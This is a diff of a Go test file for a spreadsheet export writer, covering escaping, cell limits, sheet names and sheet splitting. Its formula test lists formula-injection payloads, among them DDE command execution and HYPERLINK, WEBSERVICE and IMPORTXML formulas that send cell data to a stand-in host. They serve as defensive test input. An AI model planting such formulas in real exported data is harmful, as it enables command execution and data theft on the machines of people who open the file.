@@ -29,10 +29,10 @@ func textRow(t *testing.T, texts ...string) (*Writer, []string) {
 	return x, read
 }
 
-// TestExcelFormulas writes what spreadsheets and their attackers take for
+// TestFormulas writes what spreadsheets and their attackers take for
 // formulas into every text column: all of it stays text, and the reader of the
 // tests refuses any formula or hyperlink.
-func TestExcelFormulas(t *testing.T) {
+func TestFormulas(t *testing.T) {
 	payloads := []string{
 		"=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", "\n=1+1", "=cmd|' /C calc'!A0", "=DDE(\"cmd\";\"/C calc\";\"a\")",
 		`=HYPERLINK("http://example.org/?x="&A1,"click")`, `=WEBSERVICE("http://example.org/")`, "http://example.org/", `=IMPORTXML(CONCAT("http://example.org/",A1),"//a")`,
@@ -63,11 +63,11 @@ func TestExcelFormulas(t *testing.T) {
 	}
 }
 
-// TestT09CellLimit cuts what a cell cannot hold, says how much is missing and
+// TestCellLimit cuts what a cell cannot hold, says how much is missing and
 // counts it.
-func TestT09CellLimit(t *testing.T) {
+func TestCellLimit(t *testing.T) {
 	long, emoji := strings.Repeat("a", 40000), strings.Repeat("😀", 20000)
-	fits, emojiFits := strings.Repeat("a", cellUnits), "a"+strings.Repeat("😀", cellUnits/2)
+	fits, emojiFits := strings.Repeat("a", maxCellUnits), "a"+strings.Repeat("😀", maxCellUnits/2)
 	x, read := textRow(t, long, emoji, "b"+emoji, fits, emojiFits, "b"+fits, long)
 	if x.Cut() != 5 || x.Escaped() != 0 {
 		t.Errorf("cut %d, escaped %d", x.Cut(), x.Escaped())
@@ -84,15 +84,15 @@ func TestT09CellLimit(t *testing.T) {
 		if n := len([]rune(kept)) + missing; n != len([]rune(source)) {
 			t.Errorf("%d accounts for %d characters", i, n)
 		}
-		if units := len(utf16.Encode([]rune(read[i]))); units > cellUnits || units < cellUnits-4 {
+		if units := len(utf16.Encode([]rune(read[i]))); units > maxCellUnits || units < maxCellUnits-4 {
 			t.Errorf("%d has %d UTF-16 units", i, units)
 		}
 	}
 }
 
-// TestT10ControlCharacters escapes what XML cannot hold, visibly, and counts
+// TestControlCharacters escapes what XML cannot hold, visibly, and counts
 // it.
-func TestT10ControlCharacters(t *testing.T) {
+func TestControlCharacters(t *testing.T) {
 	for source, want := range map[string]string{
 		"a\x00b":               `a\u0000b`,
 		"\x01\x08\x0b\x0c\x1f": `\u0001\u0008\u000B\u000C\u001F`,
@@ -114,9 +114,9 @@ func TestT10ControlCharacters(t *testing.T) {
 	}
 }
 
-// TestT10EscapedAndCut does not cut inside an escape and counts an escape only
+// TestEscapedAndCut does not cut inside an escape and counts an escape only
 // where it is still there.
-func TestT10EscapedAndCut(t *testing.T) {
+func TestEscapedAndCut(t *testing.T) {
 	x, read := textRow(t, strings.Repeat("\x00", 10000), strings.Repeat("a", 40000)+"\x00")
 	if x.Cut() != 2 || x.Escaped() != 1 {
 		t.Errorf("cut %d, escaped %d", x.Cut(), x.Escaped())
@@ -127,10 +127,10 @@ func TestT10EscapedAndCut(t *testing.T) {
 	}
 }
 
-// TestT11LiteralEscapes keeps text that reads like the escapes of the format.
+// TestLiteralEscapes keeps text that reads like the escapes of the format.
 // excelize alone loses the second of two that share an underscore and drops
 // surrogates.
-func TestT11LiteralEscapes(t *testing.T) {
+func TestLiteralEscapes(t *testing.T) {
 	texts := []string{
 		"_x0041_", "a_x0041_b", "_x0041_x0042_", "_x0041__x0042_", "_xD800_", "a_xDFFF_b", "_x005F_x0041_", "_x005F_", "_x005f_x005f_x0041_",
 		"_x000D_", "_x41_", "_x4_", "_x00041_", "_x_", "_x004g_", "__x0041_", "_x0041", "_X0041_", "eyJ_xAb_cd", "_x000D_\r\n<&>\"' ", " _x0041_ ",
@@ -140,8 +140,8 @@ func TestT11LiteralEscapes(t *testing.T) {
 	}
 }
 
-// TestT11AnyText writes random texts of the characters that matter.
-func TestT11AnyText(t *testing.T) {
+// TestAnyText writes random texts of the characters that matter.
+func TestAnyText(t *testing.T) {
 	r := rand.New(rand.NewPCG(1, 1))
 	parts := []string{"_", "_", "x", "x", "_x", "0", "4", "1", "D8", "005F", "000D", "\r", "\n", "\t", " ", "&", "<", `"`, "😀", "ä"}
 	texts := make([]string, 3000)
@@ -158,35 +158,41 @@ func TestT11AnyText(t *testing.T) {
 	}
 }
 
-// TestT11LineEnds keeps all line ends: XML readers turn bare CR and CR LF into
+// TestLineEnds keeps all line ends: XML readers turn bare CR and CR LF into
 // LF.
-func TestT11LineEnds(t *testing.T) {
+func TestLineEnds(t *testing.T) {
 	texts := []string{"a\r\nb", "a\rb", "a\nb", "\r", "\r\n", "\n", "a\n\r\nb\r", " \t\r\n"}
 	if _, read := textRow(t, texts...); !slices.Equal(read, texts) {
 		t.Errorf("read %q", read)
 	}
 }
 
-// TestT14SheetNames refuses names that are taken or reserved, in any case.
-func TestT14SheetNames(t *testing.T) {
+// TestSheetNames refuses names that are taken or reserved, in any case.
+func TestSheetNames(t *testing.T) {
 	var out bytes.Buffer
 	x, _ := newTestExcel(t, &out, nil)
 	defer x.Abort()
+	frame := func(name string, index int) error {
+		p := &page{name: name, look: pageLook{tab: navy, columns: shownColumns(9)}}
+		return (&pageFrame{x.parts.book.file, p}).make(index)
+	}
 	for i, name := range []string{summarySheet, signInSheet} {
-		if err := x.newPage(name, sheetLook{tab: navy, columns: seen(9)}).frame(i); err != nil {
+		if err := frame(name, i); err != nil {
 			t.Fatal(err)
 		}
 	}
 	for _, name := range []string{"SUMMARY", "sign-INS", "History", "hIsToRy", "", "a/b", "'a", strings.Repeat("a", 32)} {
-		if err := x.newPage(name, sheetLook{tab: navy, columns: seen(9)}).frame(2); err == nil {
-			t.Errorf("%q was taken", name)
-		}
+		t.Run(name, func(t *testing.T) {
+			if err := frame(name, 2); err == nil {
+				t.Errorf("%q was accepted", name)
+			}
+		})
 	}
 }
 
-// TestT15SpillFiles leaves no spill file, neither after Close nor after Abort,
+// TestSpillFiles leaves no spill file, neither after Close nor after Abort,
 // and makes none elsewhere.
-func TestT15SpillFiles(t *testing.T) {
+func TestSpillFiles(t *testing.T) {
 	elsewhere := t.TempDir()
 	t.Setenv("TMPDIR", elsewhere)
 	big := excelBatch(540, func(row int, c *[schema.NumColumns]schema.Vector) {
@@ -217,12 +223,12 @@ func TestT15SpillFiles(t *testing.T) {
 	}
 }
 
-// TestT27SheetSplit begins a new sheet where one is full; together they have
+// TestSheetSplit begins a new sheet where one is full; together they have
 // all rows, in order.
-func TestT27SheetSplit(t *testing.T) {
+func TestSheetSplit(t *testing.T) {
 	cases := map[string]func(*Writer){
-		"rows":  func(x *Writer) { x.rowLimit = 10 },
-		"bytes": func(x *Writer) { x.xmlLimit = x.signIns.page().part.bytes() + 560 },
+		"rows":  func(x *Writer) { x.parts.book.limits.rows = 10 },
+		"bytes": func(x *Writer) { x.parts.book.limits.xml = headerSize(x) + 560 },
 	}
 	for name, limit := range cases {
 		var out bytes.Buffer
@@ -262,16 +268,16 @@ func TestT27SheetSplit(t *testing.T) {
 	}
 }
 
-// TestT27RealLimit is the limit of the format: header and rows fill a sheet.
-func TestT27RealLimit(t *testing.T) {
-	if sheetRows+1 != 1048576 {
-		t.Errorf("limit %d", sheetRows)
+// TestRealLimit is the limit of the format: header and rows fill a sheet.
+func TestRealLimit(t *testing.T) {
+	if maxPageRows+1 != 1048576 {
+		t.Errorf("limit %d", maxPageRows)
 	}
 	// The row that reaches the limit of bytes may be the largest there is: an
 	// ampersand is five bytes in XML.
-	const largest, around = int(numSheetColumns) * cellUnits * len("&amp;"), 1 << 20
-	if sheetXML+largest+around > math.MaxInt32 {
-		t.Errorf("a sheet may have %d bytes", sheetXML+largest+around)
+	const largest, around = int(numSheetColumns) * maxCellUnits * len("&amp;"), 1 << 20
+	if maxPageXML+largest+around > math.MaxInt32 {
+		t.Errorf("a sheet may have %d bytes", maxPageXML+largest+around)
 	}
 }
 
@@ -282,14 +288,24 @@ func FuzzExcelText(f *testing.F) {
 		f.Add(seed)
 	}
 	f.Fuzz(func(t *testing.T, text string) {
-		cell := newCellText([]byte(text))
+		cell := fitCell([]byte(text))
 		var read string
 		mustUnmarshal(t, appendT(nil, cell.text), &read)
-		if read = decodeCell(read); (read != text) != (cell.cut || cell.escaped) {
-			t.Errorf("%q: read %q, cut %v, escaped %v", text, read, cell.cut, cell.escaped)
+		if read = decodeCell(read); (read != text) != (cell.mark != (cellMark{})) {
+			t.Errorf("%q: read %q, cut %v, escaped %v", text, read, cell.mark.cut, cell.mark.escaped)
 		}
-		if units := len(utf16.Encode([]rune(read))); units > cellUnits {
+		if units := len(utf16.Encode([]rune(read))); units > maxCellUnits {
 			t.Errorf("%q: %d UTF-16 units", text, units)
 		}
 	})
+}
+
+// headerSize returns the size of a page of Sign-ins without rows.
+func headerSize(x *Writer) int64 {
+	for _, s := range x.sheets {
+		if w, ok := s.(*signInSheetWriter); ok {
+			return w.series.page().xml.fullSize()
+		}
+	}
+	return 0
 }
